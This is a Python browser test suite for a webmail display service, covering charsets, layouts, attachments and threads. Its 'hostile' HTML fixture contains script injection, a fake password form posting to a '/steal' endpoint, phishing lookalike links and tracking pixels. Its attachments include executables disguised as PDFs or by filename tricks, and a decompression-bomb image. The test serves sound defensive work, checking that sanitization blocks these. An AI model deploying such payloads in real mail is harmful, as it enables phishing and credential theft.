# SPDX-FileCopyrightText: 2026 The Sinetti Authors
# SPDX-License-Identifier: EUPL-1.2
"""Mail as it really is, in a real browser: charsets, layouts, hostile HTML, long threads, attachments and their previews.

Everything is looked at on a screen of 320 and of 1280 pixels, as a person sees it who has never been here.
"""

import http.server
import os
import pathlib
import struct
import threading
import uuid
import zlib

from browser import DESK, NARROW, SCREENS, Looker, Person, chromium
from town import MAILBOX, PROJECT, Tally, Town, message_id, until

WIDE = (1280, 900)
SHARED = pathlib.Path(os.environ.get("SINETTI_SHARED", PROJECT.parent / "shared"))
# What a message says in its charset, and how a page must show it.
CHARSETS = [
    ("windows-1252", "Hyvää päivää – “lainaus” maksaa 5 €…", "cp1252"),
    ("iso-8859-1", "Hyvää päivää, Åke", "latin-1"),
    ("iso-8859-15", "Maksu 12 €, Žižek", "iso8859-15"),
    ("koi8-r", "Здравствуйте, как дела?", "koi8-r"),
    ("iso-2022-jp", "こんにちは、お元気ですか", "iso2022-jp"),
    ("gb18030", "你好，这是一封信", "gb18030"),
    ("utf-7", "Hyvää päivää – näin", "utf-7"),
    ("shift_jis", "日本語のメール", "cp932"),
    ("big5", "中文信件", "big5"),
    ("euc-kr", "안녕하세요", "euc-kr"),
    ("iso-8859-8-i", "שלום עולם", "iso8859-8"),
    ("windows-1251", "Добрый день", "cp1251"),
    ("utf-8", "Ångström 👍 ﷺ", "utf-8"),
]


class Tracker:
    """Somebody outside who would like to know that a message is read."""

    def __init__(self, port):
        self.asked = []
        tracker = self

        class Answer(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (the library's name)
                tracker.asked.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Answer)
        self.address = f"http://127.0.0.1:{port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Raw:
    """A mail of exactly these bytes."""

    def __init__(self, content):
        self.content = content if isinstance(content, bytes) else content.encode()

    def as_bytes(self, policy=None):
        return self.content.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def headed(subject, body, kind, coding="8bit", sender=f"Liisa Lehto <{MAILBOX}>", more=""):
    body = body if isinstance(body, bytes) else body.encode()
    return Raw(f"From: {sender}\nTo: someone@example.com\nSubject: {subject}\nMessage-ID: <{uuid.uuid4()}@mallila.example>\n"
               f"{more}MIME-Version: 1.0\nContent-Type: {kind}\nContent-Transfer-Encoding: {coding}\n\n".encode() + body)


def parts(subject, boundary, *entities, kind="mixed", **more):
    body = b"".join(f"--{boundary}\n".encode() + (e if isinstance(e, bytes) else e.encode()) + b"\n" for e in entities)
    return headed(subject, body + f"--{boundary}--\n".encode(), f'multipart/{kind}; boundary="{boundary}"', **more)


def file(name, kind, content, more=""):
    lines = __import__("base64").encodebytes(content).decode()
    return (f"Content-Type: {kind}; name=\"{name}\"\nContent-Disposition: attachment; filename=\"{name}\"\n{more}"
            f"Content-Transfer-Encoding: base64\n\n{lines}")


def picture(width, height, colour=b"\x0b\x4f\x6c"):
    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
    rows = b"".join(b"\0" + (colour if (y // 40) % 2 else b"\xf5\xf2\xec") * width for y in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def document(count):
    """A PDF of so many pages, with words on each."""
    objects = ["<< /Type /Catalog /Pages 2 0 R >>",
               f"<< /Type /Pages /Kids [{' '.join(f'{4 + 2 * i} 0 R' for i in range(count))}] /Count {count} >>",
               "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    for page in range(count):
        text = f"BT /F1 26 Tf 72 740 Td (Decision, page {page + 1}) Tj /F1 13 Tf 0 -40 Td (The application has been granted.) Tj ET"
        objects += [f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
                    f"/Contents {5 + 2 * page} 0 R >>", f"<< /Length {len(text)} >>\nstream\n{text}\nendstream"]
    out, offsets = "%PDF-1.4\n", []
    for number, item in enumerate(objects):
        offsets.append(len(out))
        out += f"{number + 1} 0 obj\n{item}\nendobj\n"
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    return (out + f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer << /Size {len(objects) + 1} /Root 1 0 R >>\n"
            f"startxref\n{len(out)}\n%%EOF\n").encode()


def newsletter(outside):
    return f"""<html><head><style>
  body {{ font-family: Georgia, serif; color: #222 }} .top {{ background: #0b4f6c; color: #fff; padding: 16px }}
  h1 {{ margin: 0; font-size: 24px }} .button {{ background: #97221c; color: #fff; padding: 10px 16px; text-decoration: none }}
  @import url({outside}/style.css);
</style></head><body bgcolor="#eeeeee">
<table width="600" cellpadding="0" cellspacing="0" align="center" bgcolor="#ffffff"><tr><td class="top">
<img src="cid:crest@mallila" width="96" height="64" alt="The crest of Mallila"><h1>News of the services</h1></td></tr>
<tr><td style="padding: 16px"><p>Dear reader, here is what is <b>new</b>.</p>
<img src="{outside}/banner.jpg" alt="Opening hours in summer" width="560" height="120">
<p><a class="button" href="https://www.mallila.example/apply">Apply here</a></p>
<p>Sign in to your bank: <a href="http://bank.evil.example/login">www.bank.example</a> or
<a href="http://192.0.2.7/">here</a>, or <a href="https://xn--mallla-4va.example/">Mallila</a>.</p>
<table border="1" cellpadding="6"><tr><th>Day</th><th>Open</th></tr><tr><td>Monday</td><td>8–16</td></tr></table>
<img src="{outside}/open.gif?who=maija" width="1" height="1"></td></tr></table></body></html>"""


def hostile(outside):
    return f"""<body onload="document.title='taken'"><script>document.title='taken'; fetch('{outside}/script')</script>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url({outside}/cover.png)">Your session has ended.
<form action="{outside}/steal"><input name="password" type="password"><button>Sign in</button></form></div>
<meta http-equiv="refresh" content="0;url={outside}/away"><base href="{outside}/">
<svg onload="document.title='taken'"><image href="{outside}/svg.png"/></svg><img src=x onerror="document.title='taken'">
<iframe src="{outside}/frame"></iframe><object data="{outside}/object"></object><link rel="stylesheet" href="{outside}/a.css">
<a href="javascript:document.title='taken'">A link</a></div></div></main></body><p style="margin-top:-500px">After the end</p>
<video src="{outside}/film.mp4" autoplay></video><style>* {{ background: url({outside}/all.png) }} aside {{ display: none }}</style>"""


class Display:
    """The one journey that every part adds to."""

    def __init__(self, browser, town, tally, tracker):
        self.browser, self.town, self.tally, self.tracker = browser, town, tally, tracker
        self.check, self.looker, self.count = tally.check, Looker(tally), 0

    def seal(self, mail):
        """Sends a mail to a new recipient; the link of the notice, and the conversation's address."""
        self.count += 1
        person = f"r{self.count}@example.com"
        reply = self.town.send(mail, [f"{person}.s"])
        assert "Sealed and kept as" in reply, reply
        row = self.town.row("SELECT conversation_id FROM conversation_message WHERE message_id = ?", message_id(reply).bytes)
        link = self.town.office.wait(person).link("/p/")
        return link, f"{self.town.origin}/staff/conversations/{uuid.UUID(bytes=row[0])}"

    def opened(self, link, name="a recipient", size=NARROW, **more):
        person = Person(self.browser, self.tally, name, size=size, **more)
        person.go(link if person.scripts_run else link.replace("#", "."))
        person.press("Open the message")
        return person

    def shoot(self, person, name):
        """A picture at 320 and one at 1280, for a person to look at."""
        SCREENS.mkdir(parents=True, exist_ok=True)
        for size in (NARROW, WIDE):
            person.page.set_viewport_size({"width": size[0], "height": size[1]})
            person.page.screenshot(path=SCREENS / f"display-{name}-{size[0]}.png", full_page=True)
            width = person.page.evaluate("document.documentElement.scrollWidth")
            self.check(f"{name}: {size[0]} px need no sideways scroll", width <= size[0], width)
        person.page.set_viewport_size({"width": person.size[0], "height": person.size[1]})

    def entries(self, act):
        return self.town.row("SELECT count(*) FROM log_entry WHERE act = ?", act)[0]

    # The parts.

    def charsets(self):
        self.tally.part("Every charset reads as it was written")
        for label, text, codec in CHARSETS:
            body = f"{text}\n\nTerveisin\nLiisa\n"
            coded = "Hyv+AOQA5A p+AOQ-iv+AOQA5A +IBM n+AOQ-in".replace("+AOQA5A ", "+AOQA5A- ").replace("+IBM ", "+IBM- ") + "\n" \
                if label == "utf-7" else None
            octets = coded.encode() if coded else body.encode(codec)
            html = f"<p style='color:#123'>{text}</p>".encode(codec) if not coded else b"<p>" + octets + b"</p>"
            mail = parts(f"In {label}", "cut", f"Content-Type: text/plain; charset={label}\nContent-Transfer-Encoding: 8bit\n\n".encode()
                         + octets, f"Content-Type: text/html; charset={label}\nContent-Transfer-Encoding: 8bit\n\n".encode() + html,
                         kind="alternative")
            link, _ = self.seal(mail)
            person = self.opened(link, f"a reader of {label}")
            shown = person.page.locator(".text").first.inner_text()
            self.check(f"{label}: the text reads right", text in shown, shown[:80])
            person.page.get_by_role("link", name="Show as formatted").click()
            inner = person.page.frame_locator("iframe.mail").locator("main").inner_text()
            self.check(f"{label}: so does the layout", text in inner, inner[:80])
            person.close()

    def layout(self):
        self.tally.part("A newsletter, text first")
        outside = self.tracker.address
        crest = file("crest.png", "image/png", picture(96, 64), "Content-ID: <crest@mallila>\n")
        mail = parts("News of the services", "cut", "Content-Type: text/html; charset=utf-8\n\n" + newsletter(outside),
                     crest.replace("attachment", "inline"), kind="related")
        link, address = self.seal(mail)
        person = self.opened(link, "Maija")
        self.check("the text is first", "Dear reader" in person.page.locator(".text").first.inner_text()
                   and not person.page.locator("iframe").count())
        self.looker.look(person, "message with a layout")
        before = self.entries("message.html-opened")
        person.page.get_by_role("link", name="Show as formatted").click()
        frame = person.page.frame_locator("iframe.mail")
        frame.locator("main").wait_for()
        self.check("a look at the layout is one entry in the log", self.entries("message.html-opened") == before + 1)
        self.check("it says what was not fetched", "wanted to fetch 2 pictures from outside"
                   in frame.locator("aside").inner_text(), frame.locator("aside").inner_text())
        self.check("the picture of the message shows", frame.locator("img").evaluate("p => p.naturalWidth") == 96)
        warnings = frame.locator("main span", has_text="leads to").all_inner_texts()
        self.check("links that are not what they seem say where they lead", [warning.split()[-1] for warning in warnings]
                   == ["bank.evil.example", "192.0.2.7", "xn--mallla-4va.example"], warnings)
        frame.locator("summary").click()
        self.check("all links are listed", frame.locator("footer li").count() == 4)
        self.looker.look(person, "formatted")
        self.shoot(person, "formatted")
        with person.context.expect_page() as opened:
            frame.get_by_text("Apply here").first.click()
        self.check("a link opens beside, and knows nothing of us", opened.value.evaluate("window.opener") is None)
        opened.value.close()
        self.check("nobody outside heard of it", not self.tracker.asked, self.tracker.asked)
        # Axe asks in the frame too, and is not answered there: no script runs in it.
        person.said = [said for said in person.said if not said.startswith("Blocked script execution")]
        person.close()
        plain = self.opened(link, "somebody without scripts", scripts=False)
        plain.page.get_by_role("link", name="Show as formatted").click()
        self.check("it works without scripts", "Dear reader" in plain.page.frame_locator("iframe.mail").locator("main").inner_text())
        plain.close()
        self.newsletter = address

    def attack(self):
        self.tally.part("A hostile message")
        link, _ = self.seal(headed("Hostile", hostile(self.tracker.address), "text/html; charset=utf-8"))
        person = self.opened(link, "a target")
        person.page.get_by_role("link", name="Show as formatted").click()
        frame = person.page.frame_locator("iframe.mail")
        frame.locator("main").wait_for()
        self.check("its words are there, its deeds are not", "Your session has ended" in frame.locator("main").inner_text())
        self.check("it has no fields, frames or scripts", not frame.locator("input, form, iframe, script, svg, object, video").count())
        self.check("our words stand outside of it", frame.locator("body > aside").is_visible()
                   and frame.locator("main").evaluate("m => m.parentElement === document.body && document.body.children.length") == 2,
                   frame.locator("body").evaluate("b => [...b.children].map(c => c.localName).join()"))
        self.check("nothing covers what is ours", frame.locator("aside").evaluate(
            "a => { const r = a.getBoundingClientRect(); return a.contains(document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2)); }"))
        self.check("the page is still ours", "taken" not in person.page.title() and "/formatted" in person.page.url)
        response = person.context.request.get(person.page.locator("iframe.mail").evaluate("f => f.src"))
        self.check("the document has a policy of its own", response.headers["content-security-policy"].startswith("sandbox")
                   and "default-src 'none'" in response.headers["content-security-policy"])
        self.shoot(person, "hostile")
        self.check("nobody outside heard of it", not self.tracker.asked, self.tracker.asked)
        # What a browser refuses by the policy it says in the console; here there is nothing left to refuse.
        person.close()

    def attachments(self):
        self.tally.part("Attachments, and looking into them")
        mail = parts("Decision with attachments", "cut", "Content-Type: text/plain; charset=utf-8\n\nHere they are.\n",
                     file("decision.pdf", "application/pdf", document(8)), file("map.png", "image/png", picture(2400, 1200)),
                     file("notes.txt", "text/plain", "Päivä 1\nTwo <b>lines</b>\n".encode("cp1252")),
                     file("invoice.pdf", "application/pdf", b"MZ" + bytes(200)),
                     file("bomb.png", "image/png", picture(60000, 60)), file("broken.pdf", "application/pdf", b"%PDF-1.7 broken"),
                     file("a-very-long-name-that-never-seems-to-end-" * 3 + "\u202efdp.exe", "application/octet-stream", b"MZ" + bytes(99)))
        link, address = self.seal(mail)
        person = self.opened(link, "Maija with files")
        page = person.page
        self.check("each says what it is", [page.locator(".files").get_by_text(words, exact=True).count() for words in (
            "PDF document", "PNG picture", "Plain text", "Computer program")] == [2, 2, 1, 2])
        self.check("what is not what it says is told", person.sees("It looks like: computer program."))
        self.check("an ending stays in sight", person.sees("….exe"))
        self.looker.look(person, "message with attachments")
        self.shoot(person, "attachments")
        message = page.url
        before = self.entries("attachment.previewed")
        self.preview(person, "decision.pdf")
        self.check("six pages of the document are pictures", page.locator("figure img").count() == 6
                   and page.locator("figure img").first.evaluate("p => p.decode().then(() => p.naturalHeight)") == 1400)
        self.check("a preview is an entry in the log", self.entries("attachment.previewed") == before + 1)
        page.locator("summary").first.click()
        self.check("a page's words can be read", person.sees("The application has been granted."))
        self.looker.look(person, "preview of pages")
        self.shoot(person, "preview-pages")
        page.get_by_role("link", name="Next pages").click()
        self.check("the rest follows", page.locator("figure img").count() == 2 and person.sees("Pages 7–8 of 8"))
        page.get_by_role("link", name="Back to the message").click()
        self.preview(person, "map.png")
        self.check("a picture is made anew", page.locator("figure img").evaluate("p => p.decode().then(() => p.naturalWidth)") == 1400)
        self.looker.look(person, "preview of a picture")
        person.go(message)
        self.preview(person, "notes.txt")
        self.check("a text is text", "Päivä 1\nTwo <b>lines</b>" in page.locator(".text.sheet").inner_text())
        self.looker.look(person, "preview of a text")
        person.go(message)
        self.preview(person, "broken.pdf")
        self.check("a broken file says so, and can be downloaded", person.sees("The file is damaged") and person.sees("Download the file"))
        self.looker.look(person, "no preview")
        person.go(message)
        with page.expect_download() as download:
            page.get_by_role("link", name="Download decision.pdf").click()
        self.check("a download is the file itself", pathlib.Path(download.value.path()).read_bytes() == document(8))
        person.close()

    def preview(self, person, name):
        row = person.page.locator(".files li", has=person.page.get_by_text(name, exact=True))
        row.get_by_role("link", name="Preview", exact=True).click()
        person.page.get_by_role("heading", name="Preview of the attachment").wait_for()

    def thread(self):
        self.tally.part("A long conversation")
        link, address = self.seal(headed("A long conversation", "The first message.\n", "text/plain; charset=utf-8"))
        person = self.opened(link, "somebody with much to say")
        message = person.page.url
        for number in range(1, 6):
            person.page.get_by_label("Your answer").fill(
                f"Answer number {number}.\n\nOn Mon, Nov 3, 2025 at 10:15 AM Liisa Lehto <liisa@mallila.example> wrote:\n> The first message.")
            person.press("Send the answer")
            person.page.wait_for_url("**/receipt/**")
            person.go(message)
        page = person.page
        self.check("older messages are folded", page.locator(".folded details:not([open])").count() == 5 + 5
                   or page.locator(".folded > details:not([open])").count() == 5)
        self.check("the newest is open", person.sees("Answer number 5."))
        self.looker.look(person, "long conversation")
        self.shoot(person, "thread")
        page.locator(".folded > details > summary").nth(1).press("Enter")
        self.check("one opens by the keyboard", page.get_by_text("Answer number 1.").nth(1).is_visible())
        page.get_by_role("link", name="Open all messages").click()
        self.check("all open at once", page.locator(".folded > details[open]").count() == 5
                   and page.get_by_text("> The first message.").last.is_visible())
        self.looker.look(person, "long conversation open")
        person.close()
        plain = self.opened(link, "somebody without scripts", scripts=False)
        plain.page.get_by_role("link", name="Open all messages").click()
        self.check("… without scripts too", plain.page.locator(".folded > details[open]").count() == 5)
        plain.close()

    def sign_in(self):
        liisa = Person(self.browser, self.tally, "Liisa", size=DESK)
        liisa.go(f"{self.town.origin}/staff")
        liisa.sign_in("liisa")
        self.liisa = liisa

    def unverified(self):
        self.tally.part("Unprotected mail from outside")
        results = ("Authentication-Results: mx.mallila.example; spf=pass smtp.mailfrom=example.com;\n"
                   " dkim=fail header.d=example.com; dmarc=none header.from=example.com\n")
        mail = headed("=?iso-8859-1?Q?Kysymys_p=E4=E4t=F6ksest=E4?=", "Hyvää päivää,\n\nkuinka kauan käsittely kestää?\n",
                      "text/plain; charset=utf-8", sender="Maija Meikäläinen <maija@example.com>".encode("utf-8").decode(), more=results)
        reply = self.town.send(mail, [MAILBOX], sender="maija@example.com")
        self.check("the gateway takes it in", reply.startswith("250"), reply)
        self.sign_in()
        page = self.liisa.page
        until(lambda: page.reload() and page.get_by_role("link", name="maija@example.com").count(), 20)
        page.get_by_role("link", name="maija@example.com").first.click()
        self.check("staff see that its sender is not verified", self.liisa.sees("Unverified sender"))
        self.check("… and what was seen, in plain words", self.liisa.sees("may send mail of the domain example.com (SPF)")
                   and self.liisa.sees("The signature of the domain example.com does not fit"))
        self.looker.look(self.liisa, "unverified sender")
        self.shoot(self.liisa, "unverified")

    def real_mail(self):
        self.tally.part("Messages of other people")
        corpus = SHARED / "corpora" / "mail"
        if not corpus.is_dir():
            self.tally.skip("messages of other people", "the corpus is not there")
            return
        files = sorted(path for path in corpus.rglob("*.eml") if 400 < path.stat().st_size < 400_000)
        chosen = [path for path in files if b"html" in path.read_bytes().lower()][::6][:20] + files[::29][:12]
        shown = formatted = 0
        for number, path in enumerate(dict.fromkeys(chosen)):
            try:
                _, address = self.seal(Raw(path.read_bytes()))
            except AssertionError:
                continue  # The gateway refuses what has bare line ends or worse; that is tested where it is done.
            response = self.liisa.go(address)
            shown += response.status == 200
            link = self.liisa.page.get_by_role("link", name="Show as formatted")
            if number % 3 == 0:
                self.shoot(self.liisa, f"real-{number:02}")
            if link.count():
                link.first.click()
                self.liisa.page.frame_locator("iframe.mail").locator("main").wait_for()
                formatted += 1
                if number % 2 == 0:
                    self.shoot(self.liisa, f"real-{number:02}-formatted")
        self.check("they open, in text and in their layout", shown >= 10 and formatted >= 5, (shown, formatted))
        outside = [request.url for request in self.liisa.requested
                   if not request.url.startswith((self.town.origin, "data:", "about:"))]
        self.check("not one of them fetched anything", not outside, outside[:3])
        self.liisa.close()


def main():
    tally = Tally()
    smtp = "  authenticationResults: [mx.mallila.example]"
    with Town(21900, smtp=smtp) as town, chromium() as browser:
        tracker = Tracker(21905)
        town.password("liisa")
        town.start()
        journey = Display(browser, town, tally, tracker)
        try:
            tally.play(*[getattr(journey, name) for name in (
                "charsets", "layout", "attack", "attachments", "thread", "unverified", "real_mail")])
        finally:
            tracker.close()


if __name__ == "__main__":
    main()
